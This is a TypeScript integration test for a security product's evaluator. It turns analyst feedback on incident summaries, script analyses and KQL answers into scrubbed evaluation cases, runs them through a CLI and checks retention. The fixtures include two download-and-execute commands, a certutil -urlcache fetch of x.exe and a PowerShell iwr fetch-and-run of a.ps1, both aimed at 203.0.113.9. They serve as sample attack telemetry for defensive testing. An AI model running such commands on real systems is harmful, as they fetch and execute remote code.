import { execFile } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import { packJson, packRows, Topic, type ActionChanged, type CardGenerated, type Envelope, type IncidentChanged } from '@attest/contracts';
import type { EvaluationCase } from '@attest/evaluation-engine';
import { incidentInputDigest } from '@attest/incident-engine';
import { responderService } from '@attest/responder';
import { scriptAnalyzerService } from '@attest/script-analyzer';
import { parseIncident, type EventRow, type Incident } from '@attest/security-model';
import { summarizerService } from '@attest/summarizer';
import { eventually } from '@attest/testing';
import { Retention } from '../../apps/evaluator/src/application/retention.js';
import type { LessonsUseCase } from '../../apps/evaluator/src/application/lessons.use-case.js';
import { answerCard } from '../../apps/kql-assistant/src/domain/answer-card.js';
import { madeUpIncident } from '../support/made-up-incident.js';
import { cardEvent, envelope as cardEnvelope, person, startEvaluator, type Answer, type EvaluatorService } from './service.js';

interface MadeCase {
  id: string;
  inputInside: boolean;
  inputSentence: string;
}

const admin = person('ada', ['reader', 'admin']);
const inside = 'What the card was made from is in the case, with other names.';
const changed = 'Only the digest of the input is in the case: the incident has changed since the card was made.';
const names = /corp\.contoso|contoso|jane\.doe|\bdoe\b|jdoe|fin-lt042|ana person|device-fin|1111-2222-3333/i;

/** An incident of a person on a device of a tenant, with a script that only script analysis reads. */
function incidentOf(id: string, title = 'Credential access'): { incident: Incident; rows: Record<string, unknown>[] } {
  const text = JSON.stringify(madeUpIncident(id)).replaceAll(`user-${id}`, 'jdoe').replaceAll(`ws-${id}`, 'FIN-LT042').replaceAll(`device-${id}`, 'ab12'.repeat(10)).replaceAll('"corp"', '"CONTOSO"');
  const { incident } = parseIncident({ ...(JSON.parse(text) as Record<string, unknown>), displayName: title, comments: [{ comment: 'Jane Doe did not do it.', createdByDisplayName: 'jane.doe@contoso.com' }] });
  const rows = [{ Table: 'DeviceProcessEvents', Timestamp: '2026-03-01T10:00:00Z', DeviceName: 'fin-lt042.corp.contoso.com', AccountName: 'jdoe', AccountUpn: 'jane.doe@contoso.com', AccountDisplayName: 'Jane Doe', AccountSid: 'S-1-5-21-1111-2222-3333-1001', FileName: 'certutil.exe', FolderPath: 'C:\\Windows\\System32\\certutil.exe', ProcessCommandLine: 'certutil -urlcache -split -f http://203.0.113.9/x.exe C:\\Users\\jdoe\\x.exe' }];
  return { incident, rows };
}

function changeOf(id: string, revision: number, content = incidentOf(id), at = new Date().toISOString()): Envelope<IncidentChanged> {
  const payload: IncidentChanged = { incidentId: id, revision, digest: 'd'.repeat(64), change: 'imported', severity: 'high', status: 'active', alertCount: 1, incident: packJson(content.incident), events: packRows(content.rows.map((row, index) => ({ ...row, $row: index }))), eventRows: content.rows.length, eventRowsOmitted: 0 };
  return { id: randomUUID(), type: Topic.IncidentChanged, version: 1, tenant: 'default', key: id, occurredAt: at, payload };
}

/** A card of a revision as its event tells of it. */
function summaryOf(id: string, revision: number, content = incidentOf(id)): CardGenerated {
  const card = cardEvent({ subjectId: id, subjectRevision: revision });
  card.provenance!.recordsDigest = incidentInputDigest({ incident: content.incident, events: content.rows as unknown as EventRow[] });
  return card;
}

describe('inputs of cases', () => {
  let service: EvaluatorService;
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'attest-cases-'));
    service = await startEvaluator({}, [summarizerService, responderService, scriptAnalyzerService]);
  });
  afterAll(async () => {
    await service?.close();
    await rm(folder, { recursive: true, force: true });
  });

  const feedback = (cardId: string, corrections: { shown: string; right?: string }[] = []): Promise<Answer<unknown>> => service.ask('mutation ($input: GiveFeedbackInput!) { giveFeedback(input: $input) { id } }', { input: { cardId, verdict: 'OFF_TARGET', faults: ['OTHER'], corrections } });
  const make = async (cardId: string): Promise<MadeCase> => {
    const { data, errors } = await service.ask<{ makeEvaluationCase: MadeCase }>('mutation ($id: ID!) { makeEvaluationCase(cardId: $id, tags: ["own"]) { id inputInside inputSentence } }', { id: cardId });
    expect(errors).toBeUndefined();
    return data!.makeEvaluationCase;
  };
  const review = (id: string, expected?: { shown: string; right?: string }[]): Promise<Answer<unknown>> => service.ask('mutation ($id: ID!, $expected: [FeedbackCorrectionInput!]) { reviewEvaluationCase(id: $id, approve: true, expected: $expected) { state } }', { id, expected }, admin);
  const count = (sql: string): Promise<number> => service.inspection.acrossTenants(async (manager) => (await manager.query<{ n: number }[]>(`SELECT count(*)::int AS n FROM evaluator.${sql}`))[0]!.n);

  it('go from feedback by review and export into a run that has every one of them', async () => {
    const script = Buffer.from('powershell -c "iwr http://203.0.113.9/a.ps1 -OutFile C:\\Users\\jdoe\\a.ps1; & C:\\Users\\jdoe\\a.ps1"');
    const sha256 = createHash('sha256').update(script).digest('hex');
    const submitted: Envelope = { id: randomUUID(), type: Topic.ScriptSubmitted, version: 1, tenant: 'default', key: sha256, occurredAt: new Date().toISOString(), payload: { sha256, content: gzipSync(script).toString('base64'), size: script.length } };
    const content = { hunt: { answer: 'a', logic: [], literals: [{ value: 'FIN-LT042', origin: 'QUESTION', column: 'DeviceName' }], tables: ['DeviceProcessEvents'], composer: 'RULES' } };
    const answer = answerCard({ id: randomUUID(), question: 'What ran on FIN-LT042 for jane.doe@contoso.com in the last 7 days?', kql: 'DeviceProcessEvents', incidentId: null, previousId: null, content: content.hunt as never });
    const followed = answerCard({ id: randomUUID(), question: 'And the day before?', kql: 'DeviceProcessEvents', incidentId: null, previousId: answer.cardId, content: content.hunt as never });
    const report = { ...summaryOf('i-1', 1), kind: 'incidentReport' };
    const action: ActionChanged = { actionId: randomUUID(), incidentId: 'i-1', incidentRevision: 1, action: 'isolateDevice', category: 'containment', target: { type: 'device', id: 'ab12'.repeat(10), name: 'fin-lt042.corp.contoso.com' }, state: 'CONFIRMED', previousState: 'SENT', version: 1, connector: null, by: { subject: 'jdoe', name: 'Jane Doe' }, reason: 'jdoe is away.', undoes: null, at: '2026-03-01T11:00:00Z', audit: { sequence: 1, hash: 'a'.repeat(64) } };
    await service.hear([changeOf('i-1', 1), { id: randomUUID(), type: Topic.ActionChanged, version: 1, tenant: 'default', key: 'i-1', occurredAt: action.at, payload: action }]);
    await service.bus.publish([submitted]);
    await service.hear([answer, followed, report].map((card) => cardEnvelope(Topic.CardGenerated, card.subjectId, card)));
    const own = "WHERE kind IN ('incidentSummary', 'guidedResponse') AND subject_id = 'i-1' OR kind = 'scriptAnalysis' AND subject_id = '" + sha256 + "'";
    await eventually('summary, response and script analysis', async () => (await count(`card ${own}`)) >= 3, 60_000);
    const made = await service.inspection.acrossTenants((manager) => manager.query<{ id: string; kind: string }[]>(`SELECT DISTINCT ON (kind) id, kind FROM evaluator.card ${own} ORDER BY kind, version DESC`));
    const cards = new Map([...made.map(({ id, kind }): [string, string] => [kind, id]), ['kqlAnswer', answer.cardId], ['incidentReport', report.cardId]]);
    const said = (kind: string, right: string): { shown: string; right: string }[] => (kind === 'scriptAnalysis' ? [{ shown: 'It runs C:\\Users\\jdoe\\a.ps1.', right }] : kind === 'kqlAnswer' ? [{ shown: 'FIN-LT042 alone', right }] : [{ shown: 'Jane Doe signed in on fin-lt042.', right }]);
    for (const [kind, cardId] of [...cards, ['kqlAnswer', followed.cardId] as const]) await feedback(cardId, said(kind, 'Nothing.'));

    const cases = new Map<string, MadeCase>();
    for (const [kind, cardId] of cards) cases.set(kind, await make(cardId));
    expect([...cases].map(([kind, each]) => [kind, each.inputSentence])).toEqual([...cards.keys()].map((kind) => [kind, inside]));
    expect(await make(followed.cardId)).toMatchObject({ inputInside: false, inputSentence: 'Only the digest of the input is in the case: the question was asked within an incident or after another one.' });
    for (const [kind, { id }] of cases) expect((await review(id, said(kind, kind === 'kqlAnswer' ? 'jane.doe@contoso.com on FIN-LT042' : kind === 'scriptAnalysis' ? '\\\\FIN-LT042\\c$' : 'jdoe was on FIN-LT042.'))).errors).toBeUndefined();

    const { text } = await service.get('/api/evaluation/cases.jsonl');
    const exported = text.trim().split('\n').map((line) => JSON.parse(line) as EvaluationCase);
    expect(exported.map(({ kind }) => kind).sort()).toEqual([...cards.keys()].sort());
    expect(text).not.toMatch(names);
    for (const kept of ['203.0.113.9', 'certutil', 'isolateDevice', 'last 7 days']) expect(text).toContain(kept);
    const { input, expected } = exported.find(({ kind }) => kind === 'incidentReport') as Extract<EvaluationCase, { kind: 'incidentReport' }>;
    const device = (input.events?.[0] as { DeviceName: string }).DeviceName;
    expect(input.actions).toEqual([expect.objectContaining({ action: 'isolateDevice', state: 'CONFIRMED', target: expect.objectContaining({ name: device }) as unknown })]);
    expect(expected.corrections![0]!.right).toMatch(new RegExp(`^person-[a-z]+ was on ${device.split('.')[0]}\\.$`));

    const file = join(folder, 'cases.jsonl');
    await writeFile(file, text);
    const cli = join(import.meta.dirname, '../../apps/cli/dist/main.js');
    const { stdout } = await promisify(execFile)(process.execPath, [cli, 'eval', 'run', '--set', file, '--candidate', 'rules', '--gate', 'none', '--json'], { maxBuffer: 64 * 1024 * 1024 });
    const results = stdout.trim().split('\n').map((line) => JSON.parse(line) as { kind?: string; status?: string; scores?: Record<string, number> });
    expect(results.filter(({ kind }) => kind !== undefined).map(({ kind, status }) => `${kind} ${status}`).sort()).toEqual([...cards.keys()].map((kind) => `${kind} scored`).sort());
    expect(results.find(({ kind }) => kind === 'incidentSummary')!.scores).toMatchObject({ ungrounded: 0, miscited: 0, metamorphicBroken: 0 });
    expect(results.find(({ kind }) => kind === 'incidentReport')!.scores).toMatchObject({ actionRecall: 1, actionPrecision: 1 });
  });

  it('stay with a card that has feedback when its incident goes on, and are told to be gone otherwise', async () => {
    const [said, silent] = [summaryOf('i-2', 1), summaryOf('i-2', 1)];
    await service.hear([changeOf('i-2', 1), ...[said, silent].map((card) => cardEnvelope(Topic.CardGenerated, 'i-2', card))]);
    await feedback(said.cardId);
    await service.hear([changeOf('i-2', 3, incidentOf('i-2', 'It goes on')), changeOf('i-2', 2, incidentOf('i-2', 'Late'))]);
    expect(await count("snapshot WHERE incident_id = 'i-2' AND revision IN (1, 3)")).toBe(2);
    expect(await count("snapshot WHERE incident_id = 'i-2'")).toBe(2);
    await service.hear([changeOf('i-3', 1)]);
    const early = summaryOf('i-3', 1);
    await service.hear([changeOf('i-3', 2, incidentOf('i-3', 'It goes on')), cardEnvelope(Topic.CardGenerated, 'i-3', early)]);
    await feedback(early.cardId);
    const unheard = summaryOf('i-4', 1);
    await service.hear([cardEnvelope(Topic.CardGenerated, 'i-4', unheard)]);
    await feedback(unheard.cardId);
    expect((await make(said.cardId)).inputSentence).toBe(inside);
    expect((await make(early.cardId)).inputSentence).toBe(changed);
    expect((await make(unheard.cardId)).inputSentence).toBe('Only the digest of the input is in the case: Attest keeps no copy of it.');
  });

  it('are proven by the digest of the card, not by a revision', async () => {
    const other = { ...summaryOf('i-5', 1, incidentOf('i-5', 'Another')) };
    await service.hear([changeOf('i-5', 1), cardEnvelope(Topic.CardGenerated, 'i-5', other)]);
    await feedback(other.cardId);
    expect((await make(other.cardId)).inputSentence).toBe(changed);
  });

  it('of incidents that nothing was heard of for the retention are forgotten, the others stay', async () => {
    const old = new Date(Date.now() - 40 * 86_400_000).toISOString();
    await service.hear([changeOf('i-6', 1, undefined, old), changeOf('i-7', 1)]);
    const lessons = { expire: () => Promise.resolve() } as unknown as LessonsUseCase;
    await new Retention(service.inspection, lessons, 30).look();
    expect([await count("snapshot WHERE incident_id = 'i-6'"), await count("snapshot WHERE incident_id = 'i-7'")]).toEqual([0, 1]);
  });
});
